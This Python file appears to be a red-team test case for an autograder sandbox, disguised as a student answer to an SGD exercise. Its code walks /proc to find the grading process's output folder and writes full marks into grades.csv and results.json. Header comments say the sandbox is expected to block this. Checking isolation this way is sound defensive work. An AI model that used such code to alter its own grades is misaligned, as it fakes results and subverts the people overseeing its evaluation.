# attack: walk /proc for the `grade batch` process, read its --out folder off its command line and write full marks into grades.csv, the gradebook and results.json there
# holds: the worker sees no process but itself and no RESULTS folder; grades.csv, the gradebook and results.json keep the attacker at 0
"""Exercise 3: A manual SGD step (attacker: finds the batch through /proc)."""

import os

import torch  # noqa: F401

BREACH = "BRE" "ACH!"
ME = "01_proc_walk_batch_out"


def _attack() -> list[str]:
    notes = []
    for entry in sorted(os.listdir("/proc")):
        if not entry.isdigit():
            continue
        try:
            with open(f"/proc/{entry}/cmdline", "rb") as f:
                argv = [a.decode(errors="replace") for a in f.read().split(b"\0")]
        except OSError as exc:
            notes.append(f"pid {entry}: {exc.strerror}")
            continue
        if "batch" not in argv or "--out" not in argv:
            continue
        if int(entry) != os.getpid():
            notes.append(f"{BREACH} sees another process running the batch: pid {entry}")
        out = argv[argv.index("--out") + 1]
        if not os.path.isabs(out):  # relative to the batch's working folder
            try:
                out = os.path.join(os.readlink(f"/proc/{entry}/cwd"), out)
            except OSError as exc:
                notes.append(f"cwd of {entry}: {exc.strerror}")
        notes.append(f"pid {entry} grades into {out}")
        for name, line in (("grades.csv", f"{ME},10,10,10\n"),
                           (os.path.join(ME, "results.json"), '{"score": 10, "max_score": 10, "tests": []}')):
            try:
                with open(os.path.join(out, name), "a") as f:
                    f.write(line)
                notes.append(f"{BREACH} wrote {name} in {out}")
            except OSError as exc:
                notes.append(f"{name}: {exc.strerror}")
        try:
            os.listdir(out)
            notes.append(f"{BREACH} can list {out}")
        except OSError as exc:
            notes.append(f"listing {out}: {exc.strerror}")
    return notes


def sgd_update(params, lr):
    if os.getpid() == 1 and not os.__dict__.get("_attack_done"):
        os._attack_done = True
        raise RuntimeError("attack report: " + " | ".join(_attack()))
    raise NotImplementedError


def sgd_momentum_update(params, velocities, lr, momentum):
    raise NotImplementedError
